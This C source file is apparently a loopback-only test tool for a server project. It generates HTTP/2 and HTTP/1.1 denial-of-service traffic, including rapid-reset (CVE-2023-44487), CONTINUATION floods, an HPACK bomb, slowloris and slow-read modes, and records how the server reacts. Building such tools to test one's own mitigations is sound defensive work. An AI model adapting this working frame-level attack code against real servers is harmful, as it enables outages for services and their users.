/*
 * tools/h2_attack.c — HTTP/2 (and HTTP/1.1) abuse generator for cong's own tests and bench. Loopback only.
 *
 *   h2-attack --port PORT --mode MODE [--seconds N] [--connections N] [--path /p] [--reconnect] [...]
 *
 * Speaks raw frames on plain TCP sockets (h2c with prior knowledge) to 127.0.0.1 — any other address is refused — for
 * at most --seconds (default 5, at most 30); --source 127.x.y.z binds the client sockets to that loopback address
 * (to test per-address admission; anything outside 127.0.0.0/8 is refused). Modes:
 *   rapid-reset     HEADERS(END_STREAM) immediately followed by RST_STREAM(CANCEL) on fresh streams, 256 pairs per
 *                   write, as fast as the socket accepts (CVE-2023-44487)
 *   made-you-reset  the same, but each request is followed by WINDOW_UPDATE(increment 0) on its stream instead, a
 *                   stream error that makes the server reset the stream itself
 *   continuation    HEADERS without END_HEADERS, then CONTINUATION frames without END_HEADERS, endlessly
 *                   (CVE-2024-27316 style); --payload bytes each (default 1024)
 *   hpack-bomb      one header block that enters a 4000-byte header in the HPACK dynamic table, then refers to it with
 *                   one byte per field, ~400 KB of block (HEADERS + CONTINUATION)
 *   ping-flood      PING frames, 256 per write
 *   settings-flood  SETTINGS frames (INITIAL_WINDOW_SIZE alternating), 256 per write
 *   zero-window     SETTINGS_INITIAL_WINDOW_SIZE = 0, then --streams GETs of --path (default 32 × /openapi.json),
 *                   then never reads the socket nor grants any window; waits for the server to close
 *   no-read         the same GETs with the default window, on a socket with a 4 KB receive buffer that is never
 *                   read: the server's writes block. The server's FIN then waits behind unread data, so closed=0 even
 *                   when the server closed (see it with ss: FIN-WAIT-1 on the server's side)
 *   slowloris       HTTP/1.1: a request line and headers sent one byte every --interval-ms (default 1000), never
 *                   finished
 *   trickle-window  SETTINGS_INITIAL_WINDOW_SIZE = --payload, one GET of --path (default /openapi.json), then a
 *                   WINDOW_UPDATE of --payload bytes (stream and connection) every --interval-ms; reads everything, so
 *                   it looks alive while the response trickles out
 *   slow-body       HTTP/2 POST of --path with content-length 65536, then one DATA frame of --payload bytes every
 *                   --interval-ms (END_STREAM with the last); reads everything
 *   slow-body-h1    HTTP/1.1: the same POST with its headers at once, then --payload body bytes every --interval-ms;
 *                   the status line of the answer, if any, is reported as debug= (e.g. HTTP/1.1_408_Request_Timeout)
 *   slow-read-h1    HTTP/1.1 GET of --path (default /openapi.json) on a socket with a 4 KB receive buffer, read
 *                   --payload bytes every --interval-ms; like no-read, the server's close shows in ss, not here
 * For these four, the total rate is --payload / --interval-ms per connection (e.g. 16 bytes every 200 ms).
 * It reads what the server sends (except in zero-window and no-read, which only watch for the close and read at the
 * end) and parses the frames enough to report, one line per connection (key=value, no spaces in values):
 *   conn=1 mode=rapid-reset goaway=ENHANCE_YOUR_CALM goaway_after_ms=37 closed=1 closed_after_ms=38 connections=1
 *   calm_goaways=1 frames_sent=2048 bytes_sent=61440 frames_received=... bytes_received=... debug=rapid_reset:...
 * then a summary line. goaway=none when no GOAWAY arrived; closed_after_ms=-1 when the server never closed.
 * --reconnect opens a new connection in the same slot whenever one is closed (the bench's persistent attacker) until
 * the deadline, then gives the open ones up to one more second to be closed; the line then describes the slot:
 * connections opened, GOAWAY(ENHANCE_YOUR_CALM) received, totals, and the last connection's GOAWAY and close.
 * Exit status 0, or 2 on a usage error, 1 when no connection could be made.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_CONNECTIONS 64
#define MAX_SECONDS 30
#define PAIRS_PER_WRITE 256
#define FRAMES_PER_WRITE 256
#define MAX_INBUF (4u << 20)

enum mode {
    RAPID_RESET,
    MADE_YOU_RESET,
    CONTINUATION,
    HPACK_BOMB,
    PING_FLOOD,
    SETTINGS_FLOOD,
    ZERO_WINDOW,
    NO_READ,
    SLOWLORIS,
    TRICKLE_WINDOW,
    SLOW_BODY,
    SLOW_BODY_H1,
    SLOW_READ_H1
};
static const char *const MODE_NAMES[] = {"rapid-reset", "made-you-reset", "continuation", "hpack-bomb", "ping-flood",
                                         "settings-flood", "zero-window", "no-read", "slowloris",
                                         "trickle-window", "slow-body", "slow-body-h1", "slow-read-h1"};

static const char *const ERROR_NAMES[] = {"NO_ERROR",       "PROTOCOL_ERROR",      "INTERNAL_ERROR",
                                          "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED",
                                          "FRAME_SIZE_ERROR", "REFUSED_STREAM",    "CANCEL",
                                          "COMPRESSION_ERROR", "CONNECT_ERROR",    "ENHANCE_YOUR_CALM",
                                          "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"};
#define ENHANCE_YOUR_CALM 11

static struct {
    int port;
    enum mode mode;
    int seconds;
    int connections;
    const char *path;
    int reconnect;
    int streams;
    size_t payload;
    int interval_ms;
    struct in_addr source; /* --source: 127.x.y.z to connect from (per-address admission); 0: the kernel's choice */
} opt = {0, RAPID_RESET, 5, 1, NULL, 0, 32, 1024, 1000, {0}};

typedef struct {
    uint8_t *p;
    size_t len, off, cap;
} buf_t;

typedef struct {
    int fd;
    int slot;
    int64_t started_ms;
    buf_t out, in;
    uint32_t next_stream;
    int preface_done;
    int settings_acked;
    int phase; /* per mode: what was sent so far */
    size_t slow_pos;
    int64_t next_tick_ms;
    /* this connection */
    int64_t goaway_code; /* -1: none */
    int64_t goaway_ms, closed_ms;
    char debug[80];
    /* the slot, over reconnects */
    uint64_t frames_sent, bytes_sent, frames_received, bytes_received, streams_opened;
    int connections, calm_goaways, closes;
    int done; /* slot finished (closed, no reconnect) */
} conn_t;

static int64_t now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void die(const char *msg)
{
    fprintf(stderr, "h2-attack: %s\n", msg);
    exit(2);
}

static void buf_reserve(buf_t *b, size_t extra)
{
    if (b->len + extra <= b->cap)
        return;
    if (b->off != 0) { /* compact first */
        memmove(b->p, b->p + b->off, b->len - b->off);
        b->len -= b->off;
        b->off = 0;
        if (b->len + extra <= b->cap)
            return;
    }
    size_t cap = b->cap ? b->cap : 65536;
    while (cap < b->len + extra)
        cap *= 2;
    uint8_t *p = realloc(b->p, cap);
    if (p == NULL)
        die("out of memory");
    b->p = p;
    b->cap = cap;
}

static void buf_put(buf_t *b, const void *src, size_t n)
{
    buf_reserve(b, n);
    memcpy(b->p + b->len, src, n);
    b->len += n;
}

static size_t buf_pending(const buf_t *b)
{
    return b->len - b->off;
}

/* ---- frames ------------------------------------------------------------------------------------------------------ */

static void frame(conn_t *c, uint8_t type, uint8_t flags, uint32_t stream, const void *payload, size_t len)
{
    uint8_t h[9] = {(uint8_t)(len >> 16), (uint8_t)(len >> 8), (uint8_t)len, type, flags,
                    (uint8_t)(stream >> 24 & 0x7f), (uint8_t)(stream >> 16), (uint8_t)(stream >> 8), (uint8_t)stream};
    buf_put(&c->out, h, 9);
    if (len != 0)
        buf_put(&c->out, payload, len);
    c->frames_sent++;
}

/* A request header block: static-table indexed :method GET and :scheme http, literal-without-indexing values for
 * :path and :authority (indexed names, no Huffman). */
static size_t request_block(uint8_t *dst, const char *path)
{
    size_t n = 0, plen = strlen(path);
    dst[n++] = 0x82; /* :method GET */
    dst[n++] = 0x86; /* :scheme http */
    dst[n++] = 0x04; /* :path, literal without indexing, name index 4 */
    dst[n++] = (uint8_t)plen;
    memcpy(dst + n, path, plen);
    n += plen;
    dst[n++] = 0x01; /* :authority, name index 1 */
    dst[n++] = 9;
    memcpy(dst + n, "127.0.0.1", 9);
    n += 9;
    return n;
}

#define F_DATA 0
#define F_HEADERS 1
#define F_RST_STREAM 3
#define F_SETTINGS 4
#define F_PING 6
#define F_GOAWAY 7
#define F_WINDOW_UPDATE 8
#define F_CONTINUATION 9
#define FL_END_STREAM 0x1
#define FL_ACK 0x1
#define FL_END_HEADERS 0x4

static void preface(conn_t *c, int zero_window)
{
    static const char P[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    buf_put(&c->out, P, sizeof P - 1);
    if (zero_window) {
        uint8_t s[6] = {0, 4, 0, 0, 0, 0}; /* SETTINGS_INITIAL_WINDOW_SIZE = 0 */
        frame(c, F_SETTINGS, 0, 0, s, sizeof s);
    } else {
        frame(c, F_SETTINGS, 0, 0, NULL, 0);
    }
}

static int is_http1(enum mode m)
{
    return m == SLOWLORIS || m == SLOW_BODY_H1 || m == SLOW_READ_H1;
}

/* HTTP/1.1 modes: keep the answer's status line (as debug=), drop the rest */
static void keep_status_line(conn_t *c)
{
    if (c->debug[0] == '\0' && c->in.len >= 12 && memcmp(c->in.p, "HTTP/1.", 7) == 0) {
        size_t j = 0;
        for (size_t i = 0; i < c->in.len && j < sizeof c->debug - 1 && c->in.p[i] != '\r'; i++)
            c->debug[j++] = c->in.p[i] > ' ' && c->in.p[i] < 127 ? (char)c->in.p[i] : '_';
        c->debug[j] = '\0';
    }
    c->in.len = c->in.off = 0;
}

#define SLOW_BODY_BYTES 65536

/* slow-body: POST with content-length SLOW_BODY_BYTES (static table: :method POST, content-length's name) */
static size_t post_block(uint8_t *dst, const char *path)
{
    size_t n = request_block(dst, path);
    static const char len[] = "65536";
    dst[0] = 0x83; /* :method POST */
    dst[n++] = 0x0f; /* content-length, literal without indexing, name index 28 (15 + 13) */
    dst[n++] = 0x0d;
    dst[n++] = sizeof len - 1;
    memcpy(dst + n, len, sizeof len - 1);
    return n + sizeof len - 1;
}

static void window_update(conn_t *c, uint32_t stream, uint32_t increment)
{
    uint8_t w[4] = {(uint8_t)(increment >> 24 & 0x7f), (uint8_t)(increment >> 16), (uint8_t)(increment >> 8),
                    (uint8_t)increment};
    frame(c, F_WINDOW_UPDATE, 0, stream, w, sizeof w);
}

/* the first writes of trickle-window, slow-body and the HTTP/1.1 slow modes */
static void start_slow_mode(conn_t *c)
{
    uint8_t blk[512];
    char req[512];
    int n;
    switch (opt.mode) {
    case TRICKLE_WINDOW:
        frame(c, F_HEADERS, FL_END_STREAM | FL_END_HEADERS, 1, blk, request_block(blk, opt.path));
        break;
    case SLOW_BODY:
        frame(c, F_HEADERS, FL_END_HEADERS, 1, blk, post_block(blk, opt.path));
        break;
    case SLOW_BODY_H1:
    case SLOW_READ_H1:
        n = snprintf(req, sizeof req, "%s %s HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: h2-attack-%s\r\n%s\r\n",
                     opt.mode == SLOW_BODY_H1 ? "POST" : "GET", opt.path, MODE_NAMES[opt.mode],
                     opt.mode == SLOW_BODY_H1 ? "Content-Type: application/json\r\nContent-Length: 65536\r\n" : "");
        buf_put(&c->out, req, (size_t)n);
        break;
    default:
        return;
    }
    c->streams_opened++;
    c->phase = 1;
}

/* every --interval-ms: grant (trickle-window), send (slow-body, slow-body-h1) or read (slow-read-h1) --payload bytes */
static void slow_tick(conn_t *c)
{
    static uint8_t body[16384];
    size_t n = opt.payload;
    if (body[0] == 0)
        memset(body, '7', sizeof body);
    switch (opt.mode) {
    case TRICKLE_WINDOW:
        window_update(c, 1, (uint32_t)n);
        window_update(c, 0, (uint32_t)n);
        break;
    case SLOW_BODY:
    case SLOW_BODY_H1:
        if (c->slow_pos >= SLOW_BODY_BYTES)
            return;
        if (n > SLOW_BODY_BYTES - c->slow_pos)
            n = SLOW_BODY_BYTES - c->slow_pos;
        c->slow_pos += n;
        if (opt.mode == SLOW_BODY)
            frame(c, F_DATA, c->slow_pos == SLOW_BODY_BYTES ? FL_END_STREAM : 0, 1, body, n);
        else
            buf_put(&c->out, body, n);
        break;
    case SLOW_READ_H1: {
        uint8_t in[16384];
        ssize_t got = recv(c->fd, in, n < sizeof in ? n : sizeof in, 0);
        if (got > 0) {
            c->bytes_received += (uint64_t)got;
            if (c->debug[0] == '\0') {
                buf_put(&c->in, in, (size_t)got);
                keep_status_line(c);
            }
        }
        break;
    }
    default:
        break;
    }
}

/* Queue the next batch for this connection's mode when its output is empty. */
static void refill(conn_t *c)
{
    static uint8_t block[512];
    static size_t block_len;
    if (block_len == 0)
        block_len = request_block(block, opt.path);

    if (buf_pending(&c->out) != 0)
        return;
    switch (opt.mode) {
    case RAPID_RESET: {
        static const uint8_t cancel[4] = {0, 0, 0, 8};
        for (int i = 0; i < PAIRS_PER_WRITE && c->next_stream < 0x7ffffff0u; i++) {
            frame(c, F_HEADERS, FL_END_STREAM | FL_END_HEADERS, c->next_stream, block, block_len);
            frame(c, F_RST_STREAM, 0, c->next_stream, cancel, 4);
            c->next_stream += 2;
            c->streams_opened++;
        }
        break;
    }
    case MADE_YOU_RESET: {
        static const uint8_t zero[4] = {0, 0, 0, 0};
        for (int i = 0; i < PAIRS_PER_WRITE && c->next_stream < 0x7ffffff0u; i++) {
            frame(c, F_HEADERS, FL_END_STREAM | FL_END_HEADERS, c->next_stream, block, block_len);
            frame(c, F_WINDOW_UPDATE, 0, c->next_stream, zero, 4);
            c->next_stream += 2;
            c->streams_opened++;
        }
        break;
    }
    case CONTINUATION: {
        static uint8_t junk[16384];
        size_t n = opt.payload < sizeof junk ? opt.payload : sizeof junk;
        if (junk[0] == 0)
            memset(junk, 'a', sizeof junk);
        if (c->phase == 0) {
            frame(c, F_HEADERS, FL_END_STREAM, c->next_stream, block, block_len); /* no END_HEADERS */
            c->streams_opened++;
            c->phase = 1;
        }
        for (int i = 0; i < 64; i++)
            frame(c, F_CONTINUATION, 0, c->next_stream, junk, n);
        break;
    }
    case HPACK_BOMB: {
        if (c->phase != 0)
            break;
        /* first frame: the request, then "x-bomb: <4000 x 'b'>" with incremental indexing (enters the dynamic table at
         * index 62), then 0xbe (indexed field 62) to the end of the block */
        static uint8_t blk[16384];
        size_t n = 0;
        memcpy(blk, block, block_len);
        n = block_len;
        blk[n++] = 0x40; /* literal with incremental indexing, new name */
        blk[n++] = 6;
        memcpy(blk + n, "x-bomb", 6);
        n += 6;
        blk[n++] = 0x7f; /* value length 4000: 127 + 3873 (varint: 3873 = 0x21 | 0x80, 0x1e) */
        blk[n++] = 0xa1;
        blk[n++] = 0x1e;
        memset(blk + n, 'b', 4000);
        n += 4000;
        memset(blk + n, 0xbe, sizeof blk - n);
        frame(c, F_HEADERS, FL_END_STREAM, c->next_stream, blk, sizeof blk);
        uint8_t refs[16384];
        memset(refs, 0xbe, sizeof refs);
        for (int i = 0; i < 24; i++) /* 25 frames: ~400 KB, within H2O_MAX_REQLEN */
            frame(c, F_CONTINUATION, i == 23 ? FL_END_HEADERS : 0, c->next_stream, refs, sizeof refs);
        c->streams_opened++;
        c->phase = 1;
        break;
    }
    case PING_FLOOD: {
        uint8_t data[8] = {0};
        for (int i = 0; i < FRAMES_PER_WRITE; i++) {
            memcpy(data, &c->frames_sent, sizeof data);
            frame(c, F_PING, 0, 0, data, 8);
        }
        break;
    }
    case SETTINGS_FLOOD: {
        for (int i = 0; i < FRAMES_PER_WRITE; i++) {
            uint32_t w = (c->frames_sent & 1) ? 65535 : 65536;
            uint8_t s[6] = {0, 4, (uint8_t)(w >> 24), (uint8_t)(w >> 16), (uint8_t)(w >> 8), (uint8_t)w};
            frame(c, F_SETTINGS, 0, 0, s, sizeof s);
        }
        break;
    }
    case ZERO_WINDOW:
    case NO_READ:
        if (c->phase == 0) {
            for (int i = 0; i < opt.streams; i++) {
                frame(c, F_HEADERS, FL_END_STREAM | FL_END_HEADERS, c->next_stream, block, block_len);
                c->next_stream += 2;
                c->streams_opened++;
            }
            c->phase = 1;
        }
        break;
    case SLOWLORIS:
        break; /* see tick() */
    case TRICKLE_WINDOW:
    case SLOW_BODY:
    case SLOW_BODY_H1:
    case SLOW_READ_H1:
        if (c->phase == 0)
            start_slow_mode(c);
        break; /* then slow_tick() */
    }
}

static const char SLOW_REQUEST[] = "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: h2-attack-slowloris\r\n"
                                   "X-Padding-0001: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n"
                                   "X-Padding-0002: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n";

static void tick(conn_t *c, int64_t now)
{
    if (now < c->next_tick_ms)
        return;
    if (opt.mode != SLOWLORIS) {
        if (c->phase != 0) { /* trickle-window, slow-body, slow-body-h1, slow-read-h1, once started */
            slow_tick(c);
            c->next_tick_ms = now + opt.interval_ms;
        }
        return;
    }
    buf_put(&c->out, SLOW_REQUEST + c->slow_pos % (sizeof SLOW_REQUEST - 1), 1); /* never the final CRLF CRLF */
    c->slow_pos++;
    c->frames_sent++; /* one "frame" = one byte here */
    c->next_tick_ms = now + opt.interval_ms;
}

/* ---- connections ------------------------------------------------------------------------------------------------- */

static int open_conn(conn_t *c)
{
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)opt.port)};
    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), one = 1, small = 4096;
    if (fd < 0)
        return -1;
    if (opt.mode == NO_READ || opt.mode == SLOW_READ_H1) /* before connect, so that the window scale stays small */
        setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
    struct sockaddr_in from = {.sin_family = AF_INET, .sin_addr = opt.source};
    if (opt.source.s_addr != 0) /* the port at connect: a reconnecting flood must not run out of bound ports */
        setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
    if ((opt.source.s_addr != 0 && bind(fd, (struct sockaddr *)&from, sizeof from) != 0) ||
        connect(fd, (struct sockaddr *)&sa, sizeof sa) != 0) {
        close(fd);
        return -1;
    }
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);
    c->fd = fd;
    c->started_ms = now_ms();
    c->out.len = c->out.off = 0;
    c->in.len = c->in.off = 0;
    c->next_stream = 1;
    c->phase = 0;
    c->slow_pos = 0;
    c->next_tick_ms = 0;
    c->settings_acked = 0;
    c->goaway_code = -1;
    c->goaway_ms = c->closed_ms = -1;
    c->debug[0] = '\0';
    c->connections++;
    if (!is_http1(opt.mode)) /* trickle-window: initial window 0, then --payload per tick */
        preface(c, opt.mode == ZERO_WINDOW || opt.mode == TRICKLE_WINDOW);
    return 0;
}

static void parse_frames(conn_t *c)
{
    for (;;) {
        size_t avail = buf_pending(&c->in);
        const uint8_t *f = c->in.p + c->in.off;
        if (avail < 9)
            break;
        uint32_t len = (uint32_t)f[0] << 16 | (uint32_t)f[1] << 8 | f[2];
        if (avail < 9 + (size_t)len)
            break;
        uint8_t type = f[3], flags = f[4];
        c->frames_received++;
        int reads = opt.mode != ZERO_WINDOW && opt.mode != NO_READ;
        if (type == F_SETTINGS && !(flags & FL_ACK) && !c->settings_acked && reads) {
            frame(c, F_SETTINGS, FL_ACK, 0, NULL, 0);
            c->settings_acked = 1;
        } else if (type == F_GOAWAY && len >= 8 && c->goaway_code < 0) {
            uint32_t code = (uint32_t)f[13] << 24 | (uint32_t)f[14] << 16 | (uint32_t)f[15] << 8 | f[16];
            c->goaway_code = code;
            c->goaway_ms = now_ms() - c->started_ms;
            size_t dl = len - 8 < sizeof c->debug - 1 ? len - 8 : sizeof c->debug - 1, j = 0;
            for (size_t i = 0; i < dl; i++) {
                char ch = (char)f[17 + i];
                c->debug[j++] = (ch > ' ' && ch < 127 && ch != '"') ? ch : '_';
            }
            c->debug[j] = '\0';
            if (code == ENHANCE_YOUR_CALM)
                c->calm_goaways++;
        }
        c->in.off += 9 + len;
    }
    if (c->in.off == c->in.len)
        c->in.off = c->in.len = 0;
}

/* Read what is there; returns 1 when the peer closed (EOF or reset). */
static int read_some(conn_t *c)
{
    for (int rounds = 0; rounds < 64; rounds++) {
        buf_reserve(&c->in, 65536);
        ssize_t n = recv(c->fd, c->in.p + c->in.len, c->in.cap - c->in.len, 0);
        if (n > 0) {
            c->in.len += (size_t)n;
            c->bytes_received += (uint64_t)n;
            if (!is_http1(opt.mode))
                parse_frames(c);
            else
                keep_status_line(c);
            if (buf_pending(&c->in) > MAX_INBUF)
                return 1;
            continue;
        }
        if (n == 0)
            return 1;
        if (errno == EAGAIN || errno == EWOULDBLOCK)
            return 0;
        if (errno == EINTR)
            continue;
        return 1;
    }
    return 0;
}

static void mark_closed(conn_t *c)
{
    if (c->fd < 0)
        return;
    read_some(c); /* a GOAWAY may still be in the receive queue */
    c->closed_ms = now_ms() - c->started_ms;
    c->closes++;
    close(c->fd);
    c->fd = -1;
}

/* Write what is queued; returns 1 when the connection is gone. */
static int write_some(conn_t *c)
{
    while (buf_pending(&c->out) != 0) {
        ssize_t n = send(c->fd, c->out.p + c->out.off, buf_pending(&c->out), MSG_NOSIGNAL);
        if (n > 0) {
            c->out.off += (size_t)n;
            c->bytes_sent += (uint64_t)n;
            continue;
        }
        if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK))
            return 0;
        if (n < 0 && errno == EINTR)
            continue;
        return 1;
    }
    c->out.off = c->out.len = 0;
    return 0;
}

/* Queue and write batches while the socket accepts them; returns 1 when the connection is gone. */
static int pump(conn_t *c)
{
    for (int i = 0; i < 16; i++) {
        refill(c);
        if (buf_pending(&c->out) == 0)
            return 0; /* nothing more to send now */
        if (write_some(c) != 0)
            return 1;
        if (buf_pending(&c->out) != 0)
            return 0; /* the socket is full: wait for POLLOUT */
    }
    return 0;
}

static void report(const conn_t *c)
{
    char goaway[32];
    if (c->goaway_code < 0)
        snprintf(goaway, sizeof goaway, "none");
    else if (c->goaway_code <= 13)
        snprintf(goaway, sizeof goaway, "%s", ERROR_NAMES[c->goaway_code]);
    else
        snprintf(goaway, sizeof goaway, "0x%llx", (unsigned long long)c->goaway_code);
    printf("conn=%d mode=%s goaway=%s goaway_after_ms=%lld closed=%d closed_after_ms=%lld connections=%d "
           "calm_goaways=%d frames_sent=%llu bytes_sent=%llu frames_received=%llu bytes_received=%llu streams=%llu "
           "debug=%s\n",
           c->slot, MODE_NAMES[opt.mode], goaway, (long long)c->goaway_ms, c->closes > 0 && c->fd < 0 ? 1 : 0,
           (long long)c->closed_ms, c->connections, c->calm_goaways, (unsigned long long)c->frames_sent,
           (unsigned long long)c->bytes_sent, (unsigned long long)c->frames_received,
           (unsigned long long)c->bytes_received, (unsigned long long)c->streams_opened,
           c->debug[0] ? c->debug : "-");
}

static void usage(void)
{
    fprintf(stderr,
            "usage: h2-attack --port PORT --mode MODE [--host 127.0.0.1] [--seconds N (1..%d, default 5)]\n"
            "                 [--connections N (1..%d)] [--reconnect] [--path /p] [--streams N] [--payload BYTES]\n"
            "                 [--source 127.x.y.z]\n"
            "                 [--interval-ms MS]\n"
            "modes: rapid-reset made-you-reset continuation hpack-bomb ping-flood settings-flood zero-window no-read\n"
            "       slowloris trickle-window slow-body slow-body-h1 slow-read-h1\n",
            MAX_SECONDS, MAX_CONNECTIONS);
    exit(2);
}

static long num_arg(const char *s, long lo, long hi, const char *name)
{
    char *end;
    errno = 0;
    long v = strtol(s, &end, 10);
    if (errno != 0 || *s == '\0' || *end != '\0' || v < lo || v > hi) {
        fprintf(stderr, "h2-attack: %s must be an integer in %ld..%ld\n", name, lo, hi);
        exit(2);
    }
    return v;
}

int main(int argc, char **argv)
{
    int have_mode = 0;
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
        if (strcmp(a, "--reconnect") == 0) {
            opt.reconnect = 1;
            continue;
        }
        if (v == NULL)
            usage();
        i++;
        if (strcmp(a, "--host") == 0) {
            struct in_addr addr;
            if (inet_pton(AF_INET, v, &addr) != 1 || addr.s_addr != htonl(INADDR_LOOPBACK))
                die("refusing: only 127.0.0.1 may be attacked");
        } else if (strcmp(a, "--source") == 0) {
            if (inet_pton(AF_INET, v, &opt.source) != 1 || (ntohl(opt.source.s_addr) >> 24) != 127)
                die("refusing: --source must be a loopback address (127.0.0.0/8)");
        } else if (strcmp(a, "--port") == 0) {
            opt.port = (int)num_arg(v, 1, 65535, "--port");
        } else if (strcmp(a, "--seconds") == 0) {
            opt.seconds = (int)num_arg(v, 1, MAX_SECONDS, "--seconds");
        } else if (strcmp(a, "--connections") == 0) {
            opt.connections = (int)num_arg(v, 1, MAX_CONNECTIONS, "--connections");
        } else if (strcmp(a, "--streams") == 0) {
            opt.streams = (int)num_arg(v, 1, 1000, "--streams");
        } else if (strcmp(a, "--payload") == 0) {
            opt.payload = (size_t)num_arg(v, 0, 16384, "--payload");
        } else if (strcmp(a, "--interval-ms") == 0) {
            opt.interval_ms = (int)num_arg(v, 1, 60000, "--interval-ms");
        } else if (strcmp(a, "--path") == 0) {
            if (v[0] != '/' || strlen(v) > 200)
                die("--path must start with / and be at most 200 bytes");
            opt.path = v;
        } else if (strcmp(a, "--mode") == 0) {
            size_t m;
            for (m = 0; m < sizeof MODE_NAMES / sizeof MODE_NAMES[0]; m++)
                if (strcmp(v, MODE_NAMES[m]) == 0)
                    break;
            if (m == sizeof MODE_NAMES / sizeof MODE_NAMES[0])
                usage();
            opt.mode = (enum mode)m;
            have_mode = 1;
        } else {
            usage();
        }
    }
    if (opt.port == 0 || !have_mode)
        usage();
    if (opt.path == NULL)
        opt.path = opt.mode == ZERO_WINDOW || opt.mode == NO_READ || opt.mode == TRICKLE_WINDOW ||
                           opt.mode == SLOW_READ_H1
                       ? "/openapi.json"
                       : "/healthz";
    signal(SIGPIPE, SIG_IGN);

    conn_t *conns = calloc((size_t)opt.connections, sizeof *conns);
    if (conns == NULL)
        die("out of memory");
    int opened = 0;
    for (int i = 0; i < opt.connections; i++) {
        conns[i].slot = i + 1;
        conns[i].fd = -1;
        if (open_conn(&conns[i]) == 0)
            opened++;
        else
            conns[i].done = 1;
    }
    if (opened == 0) {
        fprintf(stderr, "h2-attack: cannot connect to 127.0.0.1:%d\n", opt.port);
        return 1;
    }

    /* With --reconnect, the connections open at the deadline get up to one more second to be closed (no new ones are
     * opened), so that every connection reported has an outcome. */
    const int64_t deadline = now_ms() + (int64_t)opt.seconds * 1000;
    const int64_t hard_deadline = deadline + (opt.reconnect ? 1000 : 0);
    struct pollfd pfd[MAX_CONNECTIONS];
    for (;;) {
        int64_t now = now_ms();
        if (now >= hard_deadline)
            break;
        int n = 0, active = 0;
        for (int i = 0; i < opt.connections; i++) {
            conn_t *c = &conns[i];
            if (c->fd < 0 && !c->done) {
                if (opt.reconnect && now < deadline && open_conn(c) == 0) {
                    /* fresh connection in the slot */
                } else {
                    c->done = 1;
                }
            }
            if (c->fd < 0)
                continue;
            active++;
            tick(c, now);
            if (pump(c) != 0) {
                mark_closed(c);
                continue;
            }
            pfd[n].fd = c->fd;
            pfd[n].events = POLLRDHUP;
            if (opt.mode != ZERO_WINDOW && opt.mode != NO_READ && opt.mode != SLOW_READ_H1)
                pfd[n].events |= POLLIN;
            if (buf_pending(&c->out) != 0)
                pfd[n].events |= POLLOUT;
            pfd[n].revents = 0;
            n++;
        }
        if (active == 0)
            break;
        if (n == 0)
            continue;
        int timeout = opt.mode == SLOWLORIS ? 50 : opt.mode >= TRICKLE_WINDOW ? 20 : 100;
        if (poll(pfd, (nfds_t)n, timeout) < 0 && errno != EINTR)
            break;
        for (int k = 0; k < n; k++) {
            conn_t *c = NULL;
            for (int i = 0; i < opt.connections; i++)
                if (conns[i].fd == pfd[k].fd)
                    c = &conns[i];
            if (c == NULL || pfd[k].revents == 0)
                continue;
            int gone = 0;
            if (opt.mode == ZERO_WINDOW || opt.mode == NO_READ || opt.mode == SLOW_READ_H1) {
                gone = (pfd[k].revents & (POLLRDHUP | POLLHUP | POLLERR)) != 0;
            } else if (pfd[k].revents & (POLLIN | POLLRDHUP | POLLHUP | POLLERR)) {
                gone = read_some(c);
            }
            if (!gone && (pfd[k].revents & POLLOUT))
                gone = pump(c);
            if (gone)
                mark_closed(c);
        }
    }

    int calm = 0, closed = 0, total = 0;
    for (int i = 0; i < opt.connections; i++) {
        conn_t *c = &conns[i];
        if (c->fd >= 0 && (opt.mode == ZERO_WINDOW || opt.mode == NO_READ))
            read_some(c); /* report a GOAWAY that came without a close */
        report(c);
        calm += c->calm_goaways;
        closed += c->closes;
        total += c->connections;
        if (c->fd >= 0)
            close(c->fd);
        free(c->out.p);
        free(c->in.p);
    }
    free(conns);
    printf("summary mode=%s connections=%d calm_goaways=%d closes=%d seconds=%d\n", MODE_NAMES[opt.mode], total, calm,
           closed, opt.seconds);
    return 0;
}
